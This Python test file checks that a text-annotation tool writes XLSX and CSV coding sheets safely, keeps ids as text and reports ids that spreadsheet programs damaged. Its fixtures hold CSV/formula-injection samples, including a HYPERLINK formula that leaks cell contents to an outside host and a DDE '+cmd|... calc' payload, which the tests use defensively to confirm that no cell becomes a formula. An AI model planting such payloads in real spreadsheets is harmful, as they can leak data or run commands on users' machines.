"""XLSX coding sheets (issue 13, item 2): what a coder sees in a spreadsheet program, and the
import of what comes back (.xlsx and .csv), including ids a spreadsheet program changed."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from textgauge.data import coding
from textgauge.data.ids import spreadsheet_damage
from textgauge.data.sheets import read_csv, write_csv
from textgauge.data.xlsx import (
    CODEBOOK_TAB,
    CODING_TAB,
    EXCEL_CELL_LIMIT,
    read_xlsx_table,
    truncate_text,
    write_coding_workbook,
)
from textgauge.errors import InputDataError
from textgauge.steps import gold as gold_steps

CODEBOOK = {"economic": "Costs, jobs, the economy.", "moral, religious": "Values; a comma inside.",
            "security": "Crime, borders.", "=rights": "A label with a formula start."}
LABELS = list(CODEBOOK)
HOSTILE = '=HYPERLINK("http://x/?q="&A1,"click")'
IDS = ["007", "0012", "=1+1", "12345678901234567", "+33", "abc", "-5", "@x"]


@pytest.fixture
def sample(tmp_path: Path) -> Path:
    texts = [HOSTILE, "plain text", "+cmd|' /C calc'!A0", "@SUM(1,2)", "-2+3", "\tTabbed",
             "x" * 40_000, "ok"]
    df = pd.DataFrame({"id": IDS, "text": texts, "stratum": ["a"] * len(IDS)})
    p = tmp_path / "sample.parquet"
    df.to_parquet(p, index=False)
    return p


@pytest.fixture
def written(tmp_path: Path, sample: Path) -> dict:
    out = tmp_path / "sheets"
    info = gold_steps.coding_sheets(
        sample=str(sample), codebook=str(out / "codebook.md"), coders=["coder_a", "coder_b"],
        seed=3, labels=CODEBOOK, instructions="=Read each text whole.",
        sheets=[str(out / "coder_a.csv"), str(out / "coder_b.csv")],
        workbooks=[str(out / "coder_a.xlsx"), str(out / "coder_b.xlsx")],
        summary=str(tmp_path / "sheets.json"))
    return {"dir": out, "info": info, "summary": tmp_path / "sheets.json"}


def _cells(path: Path):
    wb = openpyxl.load_workbook(path)  # formulas as formulas: a live one would show as 'f'
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _fill(path: Path, codes: dict[str, str]) -> None:
    """What a coder does: pick labels in the label column and save."""
    wb = openpyxl.load_workbook(path)
    ws = wb[CODING_TAB]
    header = [c.value for c in ws[1]]
    k_id, k_label = header.index("id"), header.index("label")
    for row in ws.iter_rows(min_row=2):
        if row[k_id].value in codes:
            row[k_label].value = codes[row[k_id].value]
            row[k_label].data_type = "s"
    wb.save(path)


def test_the_label_column_has_a_drop_down_list_of_the_codebook_labels(written):
    wb = openpyxl.load_workbook(written["dir"] / "coder_a.xlsx")
    assert wb.sheetnames == [CODING_TAB, CODEBOOK_TAB]
    ws = wb[CODING_TAB]
    header = [c.value for c in ws[1]]
    assert header == coding.SHEET_COLUMNS
    dvs = ws.data_validations.dataValidation
    assert len(dvs) == 1
    dv = dvs[0]
    assert dv.type == "list" and dv.showErrorMessage and dv.allow_blank
    # the list reads the labels from the codebook tab (a label with a comma stays one label)
    sheet_name, rng = dv.formula1.split("!")
    listed = [c.value for row in wb[sheet_name.strip("'")][rng.replace("$", "")] for c in row]
    assert listed == LABELS
    col = openpyxl.utils.get_column_letter(header.index("label") + 1)
    assert str(dv.sqref) == f"{col}2:{col}{len(IDS) + 1}"
    # the codebook tab: label, definition, and the instructions as text
    cb = wb[CODEBOOK_TAB]
    assert [cb.cell(i, 2).value for i in range(2, len(LABELS) + 2)] == list(CODEBOOK.values())
    assert "=Read each text whole." in [c.value for c in cb["B"]]


def test_no_cell_is_a_formula_and_ids_stay_text(written):
    for name in ("coder_a.xlsx", "coder_b.xlsx"):
        cells = list(_cells(written["dir"] / name))
        assert cells and all(c.data_type == "s" for c in cells if c.value is not None)
        assert not [c.coordinate for c in cells if c.data_type == "f"]
    wb = openpyxl.load_workbook(written["dir"] / "coder_a.xlsx")
    ws = wb[CODING_TAB]
    ids = [c.value for c in ws["B"][1:]]
    assert sorted(ids) == sorted(IDS)  # '007' keeps its zeros, '=1+1' is text
    texts = [c.value for c in ws["C"][1:]]
    assert HOSTILE in texts and "\tTabbed" in texts


def test_id_and_text_are_locked_label_and_note_editable_text_wrapped(written):
    ws = openpyxl.load_workbook(written["dir"] / "coder_a.xlsx")[CODING_TAB]
    assert ws.protection.sheet
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        cell = dict(zip(header, row, strict=True))
        assert cell["id"].protection.locked and cell["text"].protection.locked
        assert cell["item"].protection.locked
        assert not cell["label"].protection.locked and not cell["note"].protection.locked
        assert cell["text"].alignment.wrap_text
    widths = {h: ws.column_dimensions[openpyxl.utils.get_column_letter(j + 1)].width
              for j, h in enumerate(header)}
    assert widths["text"] >= 60 and widths["id"] >= 10 and widths["label"] >= len("moral, religious")
    assert ws.freeze_panes == "A2"


def test_a_long_text_is_cut_with_a_marker_in_the_xlsx_and_whole_in_the_csv(written):
    long_id = IDS[6]
    ws = openpyxl.load_workbook(written["dir"] / "coder_a.xlsx")[CODING_TAB]
    text = next(r[2].value for r in ws.iter_rows(min_row=2) if r[1].value == long_id)
    assert len(text) == EXCEL_CELL_LIMIT
    n_hidden = 40_000 - text.index(" [... truncated")
    assert text.endswith(f" [... truncated: {n_hidden} characters not shown; see the CSV sheet]")
    csv = read_csv(written["dir"] / "coder_a.csv", dtype=str, keep_default_na=False)
    assert csv.set_index("id").loc[long_id, "text"] == "x" * 40_000
    summary = json.loads(written["summary"].read_text())
    assert summary["truncated_texts"] == 1 and summary["truncated_ids"] == [long_id]
    assert summary["characters_not_shown"] == n_hidden
    assert summary["formats"] == ["xlsx", "csv"]
    assert written["info"]["truncated_texts"] == 1


def test_the_truncation_is_logged(tmp_path, sample, caplog):
    with caplog.at_level(logging.WARNING, logger="textgauge"):
        gold_steps.coding_sheets(sample=str(sample), codebook=str(tmp_path / "cb.md"),
                                 coders=["a"], seed=1, labels=CODEBOOK, instructions="",
                                 workbooks=[str(tmp_path / "a.xlsx")])
    assert "1 text(s) are longer than an Excel cell holds" in caplog.text
    assert "no CSV sheet holds them whole" in caplog.text
    ws = openpyxl.load_workbook(tmp_path / "a.xlsx")[CODING_TAB]
    assert any("the whole text is in the gold sample" in str(c.value) for c in ws["C"])


@pytest.mark.parametrize("text", ["x" * 40_000, "\U0001F600" * 20_000, "y" * EXCEL_CELL_LIMIT])
def test_truncate_text_counts_exactly_and_fits_excel(text):
    cut, n = truncate_text(text)
    units = len(cut.encode("utf-16-le")) // 2
    assert units <= EXCEL_CELL_LIMIT
    if n:
        head = cut[: cut.index(" [... truncated")]
        assert text.startswith(head) and len(text) - len(head) == n
        assert f"truncated: {n} characters not shown" in cut
    else:
        assert cut == text


def test_a_filled_xlsx_sheet_imports_like_the_same_csv_sheet(written, tmp_path):
    codes = dict(zip(IDS, ["economic", "moral, religious", "=rights", "security", "", "economic",
                           "=rights", "security"], strict=True))
    _fill(written["dir"] / "coder_a.xlsx", codes)
    csv = read_csv(written["dir"] / "coder_a.csv", dtype=str, keep_default_na=False)
    csv["label"] = csv["id"].map(codes)
    write_csv(csv, tmp_path / "coder_a_filled.csv")
    sample_ids = set(IDS)
    from_xlsx = coding.read_sheet_codes(written["dir"] / "coder_a.xlsx", "coder_a", LABELS,
                                        sample_ids)
    from_csv = coding.read_sheet_codes(tmp_path / "coder_a_filled.csv", "coder_a", LABELS,
                                       sample_ids)
    pd.testing.assert_frame_equal(from_xlsx.sort_values("id").reset_index(drop=True),
                                  from_csv.sort_values("id").reset_index(drop=True))
    assert dict(zip(from_xlsx["id"], from_xlsx["label"], strict=True)) == codes


def test_import_codes_reads_the_file_gold_codes_names(written, sample, tmp_path):
    """An .xlsx for one coder, a .csv for the other, an .xlsx adjudication: the step reads
    what each entry names (the .xlsx of coder_a is read even though a .csv lies beside)."""
    a = dict.fromkeys(IDS, "economic")
    b = dict.fromkeys(IDS, "security")
    b[IDS[0]] = "economic"
    _fill(written["dir"] / "coder_a.xlsx", a)
    csv = read_csv(written["dir"] / "coder_b.csv", dtype=str, keep_default_na=False)
    csv["label"] = csv["id"].map(b)
    write_csv(csv, written["dir"] / "coder_b.csv")
    adj = tmp_path / "adjudication.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["id", "label"])
    for i in IDS[1:]:
        wb.active.append([i, "moral, religious"])
        wb.active.cell(wb.active.max_row, 1).data_type = "s"  # '=1+1' as typed text
    wb.save(adj)
    out = tmp_path / "out"
    info = gold_steps.import_codes(
        sample=str(sample), codes=str(out / "codes.parquet"),
        reference=str(out / "reference.parquet"),
        adjudication_sheet=str(out / "adjudication_sheet.csv"), summary=str(out / "codes.json"),
        labels=LABELS, sheet_files={"coder_a": str(written["dir"] / "coder_a.xlsx"),
                                    "coder_b": str(written["dir"] / "coder_b.csv")},
        adjudication=str(adj))
    assert info["counts"]["evaluated"] == len(IDS)
    ref = pd.read_parquet(out / "reference.parquet").set_index("id")["reference"]
    assert ref["007"] == "economic" and (ref.drop("007") == "moral, religious").all()


def test_a_csv_sheet_whose_ids_lost_their_leading_zeros_gives_the_clear_message(tmp_path):
    p = tmp_path / "coder_a.csv"
    p.write_text("item,id,text,label,note\n1,7,a,economic,\n2,12,b,security,\n3,abc,c,economic,\n")
    with pytest.raises(InputDataError) as e:
        coding.read_sheet_codes(p, "coder_a", LABELS, {"007", "0012", "abc"})
    msg = str(e.value)
    assert "coder_a" in msg and str(p) in msg
    assert "row 1 ('7': the gold sample has '007': leading zeros lost)" in msg
    assert "row 2 ('12'" in msg and "row 3" not in msg
    assert "turned ids into numbers" in msg
    assert "return the .xlsx sheet" in msg and "format the id column as text" in msg


@pytest.mark.parametrize("shown", ["1.23457E+16", "1.23457e16", "1,23457E+16"])
def test_scientific_notation_ids_give_the_clear_message(tmp_path, shown):
    p = tmp_path / "coder_b.csv"
    pd.DataFrame({"id": ["abc", shown], "label": ["economic", "moral, religious"]}).to_csv(
        p, index=False)
    with pytest.raises(InputDataError) as e:
        coding.read_sheet_codes(p, "coder_b", LABELS, {"abc", "12345678901234567"})
    msg = str(e.value)
    assert f"row 2 ({shown!r}: scientific notation" in msg and "coder_b" in msg
    assert "turned ids into numbers" in msg


def test_an_xlsx_saved_with_numeric_ids_and_an_adjudication_file_give_the_message(tmp_path):
    # a coder retyped the ids, and the spreadsheet stored them as numbers
    p = tmp_path / "coder_a.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["id", "label"])
    wb.active.append([7, "economic"])
    wb.active.append([12345678901234567, "economic"])
    wb.save(p)
    df = read_xlsx_table(p)
    # a number in a cell is a double: 17 digits come back with the tail lost
    assert df.attrs["non_text_ids"] == [0, 1] and list(df["id"]) == ["7", "12345678901234570"]
    with pytest.raises(InputDataError) as e:
        coding.read_sheet_codes(p, "coder_a", LABELS, {"007", "12345678901234567"})
    assert "row 1 ('7': the gold sample has '007': leading zeros lost)" in str(e.value)
    assert "row 2 ('12345678901234570': the gold sample has '12345678901234567'" in str(e.value)
    adj = tmp_path / "adj.csv"
    adj.write_text("id,label\n7,economic\n")
    with pytest.raises(InputDataError) as e:
        coding.read_adjudication(adj, LABELS, {"007"})
    assert "adjudication file" in str(e.value) and "leading zeros lost" in str(e.value)


def test_spreadsheet_damage_names_only_changed_ids():
    got = spreadsheet_damage(["007", "7", "x", "1.2E+3", "1234567890123456700", "99"],
                             ["007", "x", "1234567890123456789"], non_text=[5])
    assert got == ["row 2 ('7': the gold sample has '007': leading zeros lost)",
                   "row 4 ('1.2E+3': scientific notation: the id was turned into a number)",
                   "row 5 ('1234567890123456700': the gold sample has '1234567890123456789': "
                   "digits after the 15th lost)",
                   "row 6 ('99': stored as a number or date, not as text)"]
    # ids from another run keep the plain message
    assert spreadsheet_damage(["zz"], ["007"]) == []


def test_unknown_ids_that_no_spreadsheet_explains_keep_the_plain_message(tmp_path):
    p = tmp_path / "coder_a.csv"
    p.write_text("id,label\nzz,economic\n")
    with pytest.raises(InputDataError, match="not in the gold sample"):
        coding.read_sheet_codes(p, "coder_a", LABELS, {"007"})


def test_a_file_that_is_not_xlsx_is_a_clear_error(tmp_path):
    p = tmp_path / "coder_a.xlsx"
    p.write_text("id,label\n1,economic\n")
    with pytest.raises(InputDataError, match=r"could not be read as an \.xlsx workbook"):
        coding.read_sheet_codes(p, "coder_a", LABELS, {"1"})


def test_empty_rows_a_spreadsheet_keeps_are_ignored(written):
    path = written["dir"] / "coder_b.xlsx"
    _fill(path, dict.fromkeys(IDS, "economic"))
    wb = openpyxl.load_workbook(path)
    ws = wb[CODING_TAB]
    ws.cell(row=40, column=4).value = None
    ws.cell(row=41, column=5).value = ""
    wb.save(path)
    codes = coding.read_sheet_codes(path, "coder_b", LABELS, set(IDS))
    assert len(codes) == len(IDS) and (codes["label"] == "economic").all()


def test_ids_with_control_characters_cannot_go_into_xlsx(tmp_path):
    sheet = pd.DataFrame({"item": [1], "id": ["a\x01b"], "text": ["t"], "label": [""],
                          "note": [""]})
    with pytest.raises(InputDataError, match=r"control characters.*sheet_formats: \[csv\]"):
        write_coding_workbook(sheet, tmp_path / "x.xlsx", CODEBOOK, coder="coder_a")
    sheet["id"] = "ab"
    sheet["text"] = "bell\x07 here"
    info = write_coding_workbook(sheet, tmp_path / "x.xlsx", CODEBOOK)
    assert info.control_characters_replaced == 1
